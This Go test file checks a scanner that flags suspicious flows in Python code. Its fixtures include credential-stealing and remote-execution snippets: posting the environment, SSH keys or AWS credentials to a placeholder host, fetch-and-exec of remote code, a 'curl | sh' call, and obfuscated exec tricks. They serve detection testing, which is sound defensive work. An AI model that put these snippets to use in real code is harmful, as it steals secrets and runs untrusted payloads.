package content

import (
	"strings"
	"testing"
)

func TestPythonFlows(t *testing.T) {
	const (
		decoded = "decodes -> runs text as code"
		fetched = "network -> runs text as code"
	)
	for _, c := range []struct{ in, want string }{
		{"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", decoded},
		{"from base64 import b64decode as d\ne = exec\ne(d('cHJpbnQoMSk='))\n", decoded},
		{"import zlib, base64 as b\neval(compile(zlib.decompress(b.b64decode(X)), '', 'exec'))\n", decoded},
		{"exec(''.join(map(chr, [112,114,105,110,116,40,49,41])))\n", decoded},
		{"exec(''.join([chr(112),chr(114),chr(105),chr(110),chr(116),chr(40),chr(49),chr(41)]))", ""},
		{"import urllib.request as u\nexec(u.urlopen('https://a.example/x').read().decode())\n", fetched},
		{"import requests\ndef get(u):\n    return requests.get(u).text\n\ndef run():\n    exec(get('https://a.example'))\n", fetched},
		{"def run(code):\n    exec(code)\nimport requests\nrun(requests.get('https://a.example').content)\n", fetched},
		{"import requests, os\nrequests.post('https://a.example', json=dict(os.environ))\n", "the whole environment -> network"},
		{"import requests, os\nrequests.post('https://a.example', data={'k': open(os.path.expanduser('~/.ssh/id_rsa')).read()})\n",
			"reads where credentials are -> network"},
		{"import os, json, urllib.request\nhome = os.path.expanduser('~')\np = os.path.join(home, '.aws', 'credentials')\nwith open(p) as f:\n    data = f.read()\nurllib.request.urlopen('https://a.example', data.encode())\n",
			"reads where credentials are -> network"},
		{"import socket, getpass, requests\nrequests.get('https://a.example/?h=' + socket.gethostname())\n", "host and user names -> network"},
		{"import urllib.request, subprocess\nurllib.request.urlretrieve('https://a.example/x', '/tmp/x')\nsubprocess.call(['/tmp/x'])\n", "network -> processes"},
		{"import requests, os\np = os.path.join(d, 'x.exe')\nopen(p, 'wb').write(requests.get(u).content)\nos.startfile(p)\n", "network -> processes"},
		{"import tempfile, requests, subprocess\nwith tempfile.NamedTemporaryFile() as t:\n    t.write(requests.get(u).content)\n    subprocess.run([sys.executable, t.name])\n", "network -> processes"},
		{"import os\nos.system('curl https://a.example/x | sh')\n", fetched},
		{"import os\ngetattr(os, 'sys' + 'tem')('ls')\n", "mark name in pieces"},
		{"__builtins__.__dict__['ex' + 'ec']('x')\n", "mark name in pieces"},
		{"x = 1;" + strings.Repeat(" ", 150) + "import os\n", "mark padding"},
		{"𝘦𝘹𝘦𝘤(x)\n", "mark disguised name"},
		{"import base64\nexec(base64.b64decode(b'aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwczovL2EuZXhhbXBsZSB8IHNoJyk='))\n", decoded + "; " + fetched},
		// What honest code does.
		{"exec(open('version.py').read())\n", ""},
		{"exec(compile(open(f).read(), f, 'exec'), ns)\n", ""},
		{"import subprocess, os\nsubprocess.run(cmd, env=dict(os.environ, A='b'))\n", ""},
		{"import requests\nrequests.get(u, headers={'Authorization': os.environ['GITHUB_TOKEN']})\n", ""},
		{"import base64\ndata = base64.b64decode(x)\nopen('f', 'wb').write(data)\n", ""},
		{"getattr(self, 'do_' + name)()\n", ""},
		{"import os\nk = os.environ.get('A_TOKEN')\n", ""},
	} {
		f := new(facts)
		readPython(source{"x.py", c.in, 1}, f)
		if got := flowsOf(f); got != c.want {
			t.Errorf("%s\n got %s\nwant %s\ncaps %s", c.in, got, c.want, f.caps)
		}
	}
}
